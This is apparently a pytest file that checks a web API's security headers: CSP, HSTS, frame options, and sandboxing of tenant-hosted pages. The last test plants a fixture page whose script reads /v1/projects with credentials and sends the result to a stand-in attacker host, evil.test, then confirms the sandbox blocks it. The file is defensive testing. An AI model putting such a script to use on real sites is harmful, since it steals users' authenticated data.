"""Security headers on every API answer (JSON, problems, the docs), a docs CSP that lets Swagger UI
run its one inline script by hash only, HSTS over https, and tenant pages on /v1/sites sandboxed
into an opaque origin."""

from __future__ import annotations

import base64
import hashlib
import re
import uuid

import httpx

from api.app import create_app
from tests.factories import make_org

COMMON = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


def assert_common(response: httpx.Response) -> None:
    for name, value in COMMON.items():
        assert response.headers.get(name) == value, (response.request.url, name)
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


async def test_every_kind_of_answer_carries_the_headers(api_client, session_maker):
    org = await make_org(session_maker)
    answers = [
        await api_client.get("/healthz"),
        await api_client.get("/openapi.json"),
        await api_client.get("/v1/projects", headers=org.headers),  # 200
        await api_client.get("/v1/projects"),  # 401
        await api_client.get(f"/v1/projects/{uuid.uuid4()}", headers=org.headers),  # 404
        await api_client.post("/v1/projects", json={"name": 1}, headers=org.headers),  # 422
        await api_client.get("/no-such-path"),
    ]
    assert [a.status_code for a in answers[2:6]] == [200, 401, 404, 422]
    for answer in answers:
        assert_common(answer)
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
        assert "strict-transport-security" not in answer.headers  # plain http here
        assert "access-control-allow-origin" not in answer.headers


async def test_docs_csp_allows_swagger_ui_inline_script_by_hash_only(api_client):
    docs = await api_client.get("/docs")
    assert docs.status_code == 200
    assert_common(docs)
    csp = docs.headers["content-security-policy"]
    scripts = re.findall(r"<script>(.*?)</script>", docs.text, re.DOTALL)
    assert scripts
    for script in scripts:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in csp
    script_src = re.search(r"script-src ([^;]+)", csp)
    assert script_src and "https://cdn.jsdelivr.net" in script_src.group(1)
    assert "'unsafe-inline'" not in script_src.group(1)
    assert "connect-src 'self'" in csp
    redoc = await api_client.get("/redoc")
    assert redoc.status_code == 200 and "script-src" in redoc.headers["content-security-policy"]


async def test_hsts_when_served_over_https(settings, engine):
    app = create_app(settings.model_copy(update={"public_base_url": "https://ci.example.test"}))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as client:
        r = await client.get("/no-such-path")
    assert r.headers["strict-transport-security"].startswith("max-age=")
    assert_common(r)


async def test_a_site_on_the_api_path_cannot_act_as_the_api(api_client, settings, session_maker):
    """A tenant page kept on /v1/sites runs sandboxed (opaque origin): its scripts cannot read the
    API's storage nor call the API as the API's origin; the canonical site is on another host."""
    from db.models.deployments import Deployment
    from db.session import session_scope
    from infra.sites import publish_directory, site_prefix
    from infra.storage import LocalObjectStore
    from tests.deployments.helpers import make_environment

    org = await make_org(session_maker)
    project_id, env_id = await make_environment(session_maker, org.org_id, provider="static")
    dep = uuid.uuid4()
    site = settings.data_dir / "test-sites" / dep.hex
    site.mkdir(parents=True)
    (site / "index.html").write_text(
        "<script>fetch('/v1/projects',{credentials:'include'})"
        ".then(r=>r.text()).then(t=>fetch('https://evil.test/?'+t))</script>"
    )
    publish_directory(LocalObjectStore(settings.objects_dir), site, site_prefix(str(dep)))
    async with session_scope(session_maker) as session:
        session.add(
            Deployment(
                id=dep,
                environment_id=env_id,
                project_id=project_id,
                organization_id=org.org_id,
                version="1",
                status="active",
                provider="static",
                artifact_key=site_prefix(str(dep)),
                url="http://staging.site.localhost:8080",
            )
        )
    page = await api_client.get(f"/v1/sites/{dep}/")
    assert page.status_code == 200 and "<script>" in page.text
    csp = page.headers["content-security-policy"]
    assert re.match(r"sandbox( |;)", csp) and "allow-same-origin" not in csp
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "access-control-allow-origin" not in page.headers
    # The API answers the page's cross-origin call without granting it any reading.
    r = await api_client.get("/v1/projects", headers={"Origin": "null", **org.headers})
    assert "access-control-allow-origin" not in r.headers
    assert "access-control-allow-credentials" not in r.headers
